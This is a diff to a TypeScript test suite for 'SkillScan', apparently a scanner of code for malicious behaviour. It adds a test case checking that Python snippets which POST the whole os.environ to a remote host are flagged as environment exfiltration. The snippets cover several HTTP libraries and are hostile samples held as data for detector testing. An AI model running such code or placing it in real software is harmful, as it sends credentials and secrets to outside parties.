@@ -142,6 +142,7 @@ describe("SkillScan", () => {
     const sends = (body: string, imports = "import http.client\nimport requests\nimport urllib3\nimport aiohttp") =>
       py(`import os\n${imports}\n\n\nasync def send(host):\n${body}\n`).includes("python-env-dump-exfil")
     assert.isTrue(sends("    conn = http.client.HTTPConnection(host)\n    conn.request('POST', '/', str(dict(os.environ)))"))
+    assert.isTrue(sends("    c = http.client.HTTPSConnection(host, timeout=5)\n    c.request('POST', '/', str(dict(os.environ)))"))
     assert.isTrue(sends("    s = Session()\n    s.post(host, json=dict(os.environ))", "from requests import Session"))
     assert.isTrue(sends("    pool = u3.PoolManager()\n    pool.request('POST', host, fields=dict(os.environ))", "import urllib3 as u3"))
     assert.isTrue(sends("    async with aiohttp.ClientSession() as s:\n        await s.post(host, json=dict(os.environ))"))
